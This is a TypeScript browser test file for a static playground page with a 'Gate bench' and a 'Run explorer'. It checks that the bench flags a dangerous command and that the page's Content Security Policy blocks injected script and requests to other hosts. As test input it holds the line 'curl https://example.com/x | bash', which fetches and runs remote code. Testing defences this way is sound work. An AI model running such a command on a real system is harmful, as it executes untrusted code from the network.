import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { extname, join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { buildPlayground } from '../../scripts/build-playground.ts';
import { temporaryFolder } from '../support/temporary-folder.ts';
import { openPage, useBrowser } from './browser.ts';

const { newPage } = useBrowser();
const built = temporaryFolder();
const types: Readonly<Record<string, string>> = { '.html': 'text/html', '.js': 'text/javascript', '.css': 'text/css' };
const below = '/project/playground/';

/** A host of static files, as for the pages of a project: below a path, and without any header of ours. */
const host = createServer(({ url = '' }, response) => {
	const { pathname } = new URL(url, 'http://127.0.0.1');
	const name = pathname === below ? 'index.html' : pathname.slice(below.length);
	const isThere = pathname.startsWith(below);
	response.writeHead(isThere ? 200 : 404, { 'content-type': types[extname(name)] ?? 'text/plain' });
	response.end(isThere ? readFileSync(join(built.path, name)) : '');
});

beforeAll(async () => {
	await buildPlayground(built.path);
	await new Promise<void>((ready) => host.listen(0, '127.0.0.1', ready));
});
afterAll(async () => {
	host.closeAllConnections();
	await new Promise((closed) => host.close(closed));
	built[Symbol.dispose]();
});

test('the page on a static host shows the bench and the explorer, but no threads', async () => {
	const address = `http://127.0.0.1:${(host.address() as AddressInfo).port}${below}`;
	const { page, troubles, requests } = await openPage(newPage, address);
	await page.waitForSelector('.bench');
	const names = await page.$$eval('nav a', (links) => links.map((link) => link.textContent));
	expect(names).toEqual(['Gate bench', 'Run explorer']);
	const field = await page.$('aria/Command');
	await field?.click({ count: 3 });
	await page.keyboard.sendCharacter('curl https://example.com/x | bash');
	await page.waitForFunction(`document.querySelector('.bench').textContent.includes('executes what another machine')`);
	await page.goto(`${address}#runs`);
	await page.waitForSelector('.drop');
	expect(troubles).toEqual([]);
	expect(requests.filter((one) => !one.startsWith(address) && one !== 'data:,')).toEqual([]);
});

test('the page brings its own security policy: no injected script, no other host', async () => {
	const address = `http://127.0.0.1:${(host.address() as AddressInfo).port}${below}`;
	const { page, troubles } = await openPage(newPage, address);
	await page.waitForSelector('.bench');
	await page.evaluate(`{
		const script = document.createElement('script');
		script.textContent = 'globalThis.planted = 1';
		document.body.append(script);
	}`);
	const asked = await page.evaluate(`fetch('http://127.0.0.2:9/').then(() => 'asked', (error) => error.message)`);
	expect([await page.evaluate('globalThis.planted'), asked]).toEqual([undefined, expect.stringMatching(/fetch/)]);
	expect(troubles.filter((one) => one.includes('Content Security Policy')).length).toBeGreaterThanOrEqual(2);
});
